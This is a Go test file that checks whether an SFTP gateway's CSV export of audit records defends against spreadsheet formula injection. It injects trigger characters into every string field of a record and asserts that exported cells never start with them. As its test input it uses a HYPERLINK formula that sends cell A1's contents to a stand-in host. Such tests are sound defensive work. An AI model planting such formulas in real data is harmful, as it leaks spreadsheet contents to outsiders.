package tenant

import (
	"encoding/csv"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/sftpgate/sftpgate/internal/audit"
)

// TestCSVCellsSafe: whichever string member of a record a stranger
// chose (a request id, a file name, a client's address), starting with
// what makes a spreadsheet run a cell as a formula, no cell of the CSV
// export starts with it.
func TestCSVCellsSafe(t *testing.T) {
	for _, lead := range []string{"=", "+", "-", "@", "\t", "\r"} {
		value := lead + `HYPERLINK("http://x/?"&A1,"y")`
		for _, field := range stringMembers(reflect.TypeFor[audit.Record](), nil) {
			rec := audit.Record{Time: time.Now(), Action: "webui.login", Result: "ok"}
			setMember(reflect.ValueOf(&rec).Elem(), field, value)
			w := httptest.NewRecorder()
			if err := exportActivity(w, "csv", []audit.Record{rec}); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%v as %q: %d rows, %v", field, lead, len(rows), err)
			}
			for i, cell := range rows[1] {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%v starting with %q: column %s is %q", field, lead, rows[0][i], cell)
				}
			}
		}
	}
}

// stringMembers are the paths (field indexes) of every string and
// []string member of t, within its structs and slices of structs.
func stringMembers(t reflect.Type, at []int) [][]int {
	var out [][]int
	for i := range t.NumField() {
		f := t.Field(i)
		if !f.IsExported() {
			continue
		}
		path := append(append([]int(nil), at...), i)
		switch {
		case f.Type.Kind() == reflect.String || f.Type.Kind() == reflect.Slice && f.Type.Elem().Kind() == reflect.String:
			out = append(out, path)
		case f.Type.Kind() == reflect.Struct && f.Type != reflect.TypeFor[time.Time]():
			out = append(out, stringMembers(f.Type, path)...)
		case f.Type.Kind() == reflect.Slice && f.Type.Elem().Kind() == reflect.Struct:
			out = append(out, stringMembers(f.Type.Elem(), path)...)
		}
	}
	return out
}

// setMember sets the member of v at path to s (a slice: one element).
func setMember(v reflect.Value, path []int, s string) {
	f := v.Field(path[0])
	switch {
	case f.Kind() == reflect.String:
		f.SetString(s)
	case f.Kind() == reflect.Slice && f.Type().Elem().Kind() == reflect.String:
		f.Set(reflect.ValueOf([]string{s}))
	case f.Kind() == reflect.Slice:
		f.Set(reflect.MakeSlice(f.Type(), 1, 1))
		setMember(f.Index(0), path[1:], s)
	default:
		setMember(f, path[1:], s)
	}
}
